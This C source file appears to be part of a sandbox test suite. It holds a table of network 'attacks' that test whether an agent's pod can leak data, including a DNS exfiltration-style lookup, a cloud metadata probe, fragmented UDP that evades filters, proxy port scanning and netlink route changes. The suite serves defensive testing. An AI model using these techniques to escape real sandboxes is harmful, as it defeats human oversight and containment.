/* SPDX-License-Identifier: Apache-2.0 */
/* Bytes that leave, and sockets of the pod's own namespace. */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "tests/peers/attack/attack.h"

enum { ANSWER_MS = 3000 };

struct address {
	struct sockaddr_storage sa;
	socklen_t n;
};

/* "192.0.2.1:80" or "[2001:db8::1]:80". */
static bool address_parse(const char *text, struct address *out)
{
	struct sockaddr_in *v4 = (void *)&out->sa;
	struct sockaddr_in6 *v6 = (void *)&out->sa;
	char host[64];
	unsigned port;

	memset(out, 0, sizeof(*out));
	if (sscanf(text, "[%63[^]]]:%u", host, &port) == 2) {
		v6->sin6_family = AF_INET6;
		v6->sin6_port = htons((uint16_t)port);
		out->n = sizeof(*v6);
		return inet_pton(AF_INET6, host, &v6->sin6_addr) == 1;
	}
	if (sscanf(text, "%63[^:]:%u", host, &port) == 2) {
		v4->sin_family = AF_INET;
		v4->sin_port = htons((uint16_t)port);
		out->n = sizeof(*v4);
		return inet_pton(AF_INET, host, &v4->sin_addr) == 1;
	}
	return false;
}

/* What the attack aims at: its environment variable, else its fixed address. */
static bool target_of(const struct attack *attack, struct address *out, struct verdict *out_missing)
{
	const char *text = attack->path[0] == 'A' ? setting(attack->path, "") : attack->path;

	if (text[0] == '\0') {
		*out_missing = not_tried("%s is not set", attack->path);
		return false;
	}
	if (address_parse(text, out))
		return true;
	*out_missing = not_tried("'%s' is not ADDRESS:PORT", text);
	return false;
}

static int wait_for(int fd, short events)
{
	struct pollfd p = { .fd = fd, .events = events };
	int error;
	socklen_t n = sizeof(error);

	if (poll(&p, 1, ANSWER_MS) != 1) {
		errno = ETIMEDOUT;
		return -1;
	}
	if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &n) == 0 && error != 0) {
		errno = error;
		return -1;
	}
	return 0;
}

/* What comes back for `request`, up to `max` bytes with the NUL. -1: it could not be sent. */
static int ask(int fd, const char *request, char *answer, size_t max)
{
	size_t n = 0;

	if (send(fd, request, strlen(request), MSG_NOSIGNAL) == -1)
		return -1;
	while (n < max - 1 && wait_for(fd, POLLIN) == 0) {
		ssize_t got = recv(fd, answer + n, max - 1 - n, 0);

		if (got <= 0)
			break;
		n += (size_t)got;
	}
	answer[n] = '\0';
	return 0;
}

/* With a proxy in the way a connection says nothing yet: the origin's own token does. */
static struct verdict judge_answer(int fd)
{
	const char *token = setting("ATTACK_TOKEN", "");
	char answer[4096];

	if (token[0] == '\0')
		return got_out("connected");
	if (ask(fd, "GET / HTTP/1.0\r\n\r\n", answer, sizeof(answer)) == -1)
		return held_errno("send");
	if (strstr(answer, token) != NULL)
		return got_out("the origin answered");
	return held("connected, and no word from the origin");
}

static struct verdict tcp_connect(const struct attack *attack)
{
	struct verdict missing;
	struct address to;

	if (!target_of(attack, &to, &missing))
		return missing;
	int fd = socket(to.sa.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd == -1)
		return held_errno("socket");
	if (connect(fd, (struct sockaddr *)&to.sa, to.n) == -1 &&
	    (errno != EINPROGRESS || wait_for(fd, POLLOUT) == -1))
		return held_errno("connect");
	return judge_answer(fd);
}

/* Data in the first packet, with no connect() to watch. */
static struct verdict tcp_fastopen(const struct attack *attack)
{
	struct verdict missing;
	struct address to;

	if (!target_of(attack, &to, &missing))
		return missing;
	int fd = socket(to.sa.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd == -1)
		return held_errno("socket");
	if (sendto(fd, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&to.sa, to.n) ==
		    -1 &&
	    (errno != EINPROGRESS || wait_for(fd, POLLOUT) == -1))
		return held_errno("sendto");
	return judge_answer(fd);
}

/* A datagram counts when the kernel has taken it: nobody has to answer. */
static struct verdict udp_send(const struct attack *attack)
{
	struct verdict missing;
	struct address to;

	if (!target_of(attack, &to, &missing))
		return missing;
	int fd = socket(to.sa.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd == -1)
		return held_errno("socket");
	return judge("sendto", sendto(fd, "x", 1, 0, (struct sockaddr *)&to.sa, to.n));
}

/* Nobody is at the address, so an answer comes from within the sandbox; silence means that it left. */
static struct verdict dns_ask(const struct attack *attack)
{
	static const char question[] = "\x12\x34\x01\0\0\1\0\0\0\0\0\0"
				       "\6secret\6attack\7invalid\0\0\1\0\1";
	enum { FLAGS = 3, ANSWERS = 7, RCODE = 0xf, NO_NAME = 3 };
	struct verdict missing;
	struct address to;
	unsigned char answer[512];

	if (!target_of(attack, &to, &missing))
		return missing;
	int fd = socket(to.sa.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd == -1)
		return held_errno("socket");
	if (sendto(fd, question, sizeof(question) - 1, 0, (struct sockaddr *)&to.sa, to.n) == -1)
		return held_errno("sendto");
	if (wait_for(fd, POLLIN) == -1 || recv(fd, answer, sizeof(answer), 0) < 12)
		return got_out("sendto succeeded, and nobody in the sandbox answered");
	if ((answer[FLAGS] & RCODE) == NO_NAME && answer[ANSWERS] == 0)
		return held("the sandbox's own DNS knows no such name");
	return got_out("the name was looked up");
}

static struct verdict udp_connected(const struct attack *attack)
{
	struct verdict missing;
	struct address to;

	if (!target_of(attack, &to, &missing))
		return missing;
	int fd = socket(to.sa.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd == -1)
		return held_errno("socket");
	if (connect(fd, (struct sockaddr *)&to.sa, to.n) == -1)
		return held_errno("connect");
	return judge("send", send(fd, "x", 1, 0));
}

static struct verdict loopback_connect(const struct attack *attack)
{
	const char *port = setting("ATTACK_LOOPBACK", "");
	char text[64];

	if (port[0] == '\0')
		return not_tried("ATTACK_LOOPBACK is not set");
	snprintf(text, sizeof(text), "127.0.0.1:%s", port);
	struct attack aimed = { .name = attack->name, .path = text };
	return tcp_connect(&aimed);
}

/* More than a frame carries: the second part has no port for a filter to look at. */
static struct verdict udp_fragments(const struct attack *attack)
{
	static const char data[4000];
	int may_cut = IP_PMTUDISC_DONT;
	struct verdict missing;
	struct address to;

	if (!target_of(attack, &to, &missing))
		return missing;
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd == -1 ||
	    setsockopt(fd, IPPROTO_IP, IP_MTU_DISCOVER, &may_cut, sizeof(may_cut)) == -1)
		return held_errno("socket");
	return judge("sendto", sendto(fd, data, sizeof(data), 0, (struct sockaddr *)&to.sa, to.n));
}

/* What the agent might serve beside the proxy, at the proxy's address: its metrics, for one. A connection is
 * taken there as everywhere; what counts is an answer that is not a refusal. */
static struct verdict beside_the_proxy(const struct attack *attack)
{
	static const unsigned ports[] = { 22, 53, 80, 15001, 15053, 15090 };
	char host[64], text[96], answer[4096];
	struct address to;

	const char *url = setting("HTTP_PROXY", ""), *credentials_end = strrchr(url, '@');

	(void)attack;
	if (sscanf(credentials_end != NULL ? credentials_end + 1 : url + strcspn(url, "0123456789"),
		   "%63[0-9.]:", host) != 1)
		return held("there is no proxy");
	for (size_t i = 0; i < sizeof(ports) / sizeof(ports[0]); i++) {
		snprintf(text, sizeof(text), "%s:%u", host, ports[i]);
		int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (!address_parse(text, &to) || fd == -1)
			return not_tried("'%s' is no address", text);
		if (connect(fd, (struct sockaddr *)&to.sa, to.n) == 0 &&
		    ask(fd, "GET /metrics HTTP/1.0\r\nHost: metrics\r\n\r\n", answer,
			sizeof(answer)) == 0 &&
		    answer[0] != '\0' && strncmp(answer, "HTTP/1.1 4", 10) != 0)
			return got_out("port %u answered", ports[i]);
		close(fd);
	}
	return held("nothing but refusals");
}

/* What a packet filter might go by. */
static struct verdict set_option(const struct attack *attack)
{
	int one = 1;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd == -1)
		return held_errno("socket");
	return judge("setsockopt",
		     setsockopt(fd, (int)attack->arg0, (int)attack->arg1, &one, sizeof(one)));
}

/* --- local sockets ------------------------------------------------------------------------------ */

static socklen_t abstract_address(const char *name, struct sockaddr_un *out)
{
	*out = (struct sockaddr_un){ .sun_family = AF_UNIX };
	snprintf(out->sun_path + 1, sizeof(out->sun_path) - 1, "%s", name);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(out->sun_path + 1));
}

static struct verdict abstract_connect(const struct attack *attack)
{
	const char *name = setting(attack->path, "");
	struct sockaddr_un to;

	if (name[0] == '\0')
		return not_tried("%s is not set", attack->path);
	socklen_t n = abstract_address(name, &to);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd == -1)
		return held_errno("socket");
	return judge("connect", connect(fd, (struct sockaddr *)&to, n));
}

/* A name that is taken by somebody outside is a name space that is shared with the outside. */
static struct verdict abstract_squat(const struct attack *attack)
{
	const char *name = setting(attack->path, "");
	struct sockaddr_un to;

	if (name[0] == '\0')
		return not_tried("%s is not set", attack->path);
	socklen_t n = abstract_address(name, &to);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd == -1)
		return held_errno("socket");
	if (bind(fd, (struct sockaddr *)&to, n) == 0)
		return held("the name is free here: not the outside's name space");
	if (errno == EADDRINUSE)
		return got_out("bind: the outside's name is seen");
	return held_errno("bind");
}

static bool socket_answers(const char *path)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	snprintf(to.sun_path, sizeof(to.sun_path), "%s", path);
	bool answers = fd != -1 && connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0;
	int kept = errno;
	close(fd);
	errno = kept;
	return answers;
}

static struct verdict path_sockets(const struct attack *attack)
{
	char list[2048];
	char *rest = list;

	snprintf(list, sizeof(list), "%s", setting(attack->path, ""));
	if (list[0] == '\0')
		return not_tried("%s is not set", attack->path);
	for (char *path = strsep(&rest, ":"); path != NULL; path = strsep(&rest, ":")) {
		if (socket_answers(path))
			return got_out("connected to %s", path);
	}
	return held_errno("connect");
}

/* --- changing the network ----------------------------------------------------------------------- */

struct route_request {
	struct nlmsghdr header;
	union {
		struct ifaddrmsg address;
		struct ifinfomsg link;
		struct rtmsg route;
	};
	char attributes[128];
};

static void put_attribute(struct route_request *r, unsigned short type, const void *data, size_t n)
{
	struct rtattr *attribute = (void *)((char *)r + NLMSG_ALIGN(r->header.nlmsg_len));

	attribute->rta_type = type;
	attribute->rta_len = (unsigned short)RTA_LENGTH(n);
	memcpy(RTA_DATA(attribute), data, n);
	r->header.nlmsg_len = NLMSG_ALIGN(r->header.nlmsg_len) + (unsigned)RTA_SPACE(n);
}

/* 0 or -1 and errno, as the kernel acknowledges. */
static int route_talk(int fd, struct route_request *request)
{
	struct {
		struct nlmsghdr header;
		struct nlmsgerr error;
		char rest[512];
	} answer;

	request->header.nlmsg_flags |= NLM_F_REQUEST | NLM_F_ACK;
	if (send(fd, request, request->header.nlmsg_len, 0) == -1 ||
	    recv(fd, &answer, sizeof(answer), 0) < (ssize_t)sizeof(answer.header))
		return -1;
	if (answer.header.nlmsg_type != NLMSG_ERROR)
		return 0;
	errno = -answer.error.error;
	return errno == 0 ? 0 : -1;
}

static struct route_request route_message(unsigned short type)
{
	struct route_request r = { .header = { .nlmsg_type = type } };
	uint32_t test_net = htonl(0xc633644d); /* 198.51.100.77 */
	uint32_t loopback = if_nametoindex("lo");

	if (type == RTM_NEWADDR) {
		r.header.nlmsg_len = NLMSG_LENGTH(sizeof(r.address));
		r.address = (struct ifaddrmsg){ .ifa_family = AF_INET,
						.ifa_prefixlen = 32,
						.ifa_index = loopback };
		put_attribute(&r, IFA_LOCAL, &test_net, sizeof(test_net));
	} else if (type == RTM_NEWROUTE) {
		r.header.nlmsg_len = NLMSG_LENGTH(sizeof(r.route));
		r.route = (struct rtmsg){ .rtm_family = AF_INET,
					  .rtm_dst_len = 32,
					  .rtm_table = RT_TABLE_MAIN,
					  .rtm_protocol = RTPROT_STATIC,
					  .rtm_scope = RT_SCOPE_LINK,
					  .rtm_type = RTN_UNICAST };
		put_attribute(&r, RTA_DST, &test_net, sizeof(test_net));
		put_attribute(&r, RTA_OIF, &loopback, sizeof(loopback));
	} else {
		/* The loopback link down, and with it whatever listens there. */
		r.header.nlmsg_len = NLMSG_LENGTH(sizeof(r.link));
		r.link = (struct ifinfomsg){ .ifi_index = (int)loopback, .ifi_change = IFF_UP };
	}
	return r;
}

static struct verdict change_network(const struct attack *attack)
{
	unsigned short type = (unsigned short)attack->arg0;
	struct route_request request = route_message(type);
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);

	if (fd == -1)
		return held_errno("socket");
	request.header.nlmsg_flags = type == RTM_SETLINK ? 0 : NLM_F_CREATE | NLM_F_REPLACE;
	struct verdict verdict = judge("the change", route_talk(fd, &request));
	if (verdict.outcome == GOT_OUT) {
		if (type == RTM_SETLINK)
			request.link.ifi_flags = IFF_UP;
		else
			request.header.nlmsg_type++; /* RTM_NEW... to RTM_DEL... */
		route_talk(fd, &request);
	}
	return verdict;
}

/* --- the same from where a filter may have been forgotten --------------------------------------- */

static struct verdict send_to_test_net(void)
{
	static const struct attack probe = { .path = "192.0.2.1:443" };

	return udp_send(&probe);
}

static struct verdict orphan_sends(const struct attack *attack)
{
	(void)attack;
	return in_orphan(send_to_test_net);
}

static struct verdict thread_sends(const struct attack *attack)
{
	(void)attack;
	return in_thread(send_to_test_net);
}

#define NETWORK "the network namespace has no way there but the proxy"

#define DNS "the same; the only DNS there asks nobody"

static const struct attack rows[] = {
	{ "tcp4_origin", tcp_connect, NETWORK, NULL, "ATTACK_HOST" },
	{ "tcp6_origin", tcp_connect, NETWORK, NULL, "ATTACK_HOST6" },
	{ "tcp4_fastopen", tcp_fastopen, NETWORK, NULL, "ATTACK_HOST" },
	{ "tcp4_metadata", tcp_connect, NETWORK, "holds where no cloud is", "169.254.169.254:80" },
	{ "tcp4_pod_loopback", loopback_connect, "a loopback interface of its own" },
	{ "udp4_origin", udp_send, NETWORK, NULL, "ATTACK_HOST" },
	{ "udp6_origin", udp_send, NETWORK, NULL, "ATTACK_HOST6" },
	{ "udp4_dns", dns_ask, DNS, NULL, "192.0.2.1:53" },
	{ "udp4_connected", udp_connected, NETWORK, NULL, "192.0.2.1:443" },
	{ "udp6_dns", dns_ask, DNS, "holds where no IPv6 route is", "[2001:db8::1]:53" },
	{ "udp4_multicast", udp_send, NETWORK, NULL, "224.0.0.251:5353" },
	{ "udp4_fragments", udp_fragments, NETWORK, NULL, "192.0.2.1:443" },
	{ "tcp4_beside_the_proxy", beside_the_proxy,
	  "the fence: of the pod's ports the proxy's alone", "holds where there is no proxy" },
	{ "socket_mark", set_option, "no CAP_NET_ADMIN", NULL, NULL, SOL_SOCKET, SO_MARK },
	{ "socket_transparent", set_option, "no CAP_NET_ADMIN", NULL, NULL, IPPROTO_IP,
	  IP_TRANSPARENT },
	{ "udp4_from_an_orphan", orphan_sends, NETWORK },
	{ "udp4_from_a_thread", thread_sends, NETWORK },
	{ "abstract_connect", abstract_connect, "network namespace; Landlock scope", NULL,
	  "ATTACK_ABSTRACT" },
	{ "abstract_squat", abstract_squat, "network namespace", NULL, "ATTACK_ABSTRACT" },
	{ "path_sockets", path_sockets, "folders that only the agent's UID may enter", NULL,
	  "ATTACK_SOCKETS" },
	{ "network_new_address", change_network, "no CAP_NET_ADMIN", NULL, NULL, RTM_NEWADDR },
	{ "network_new_route", change_network, "no CAP_NET_ADMIN", NULL, NULL, RTM_NEWROUTE },
	{ "network_loopback_down", change_network, "no CAP_NET_ADMIN", NULL, NULL, RTM_SETLINK },
};

const struct attack_table net_attacks = TABLE("Bytes that leave", rows);
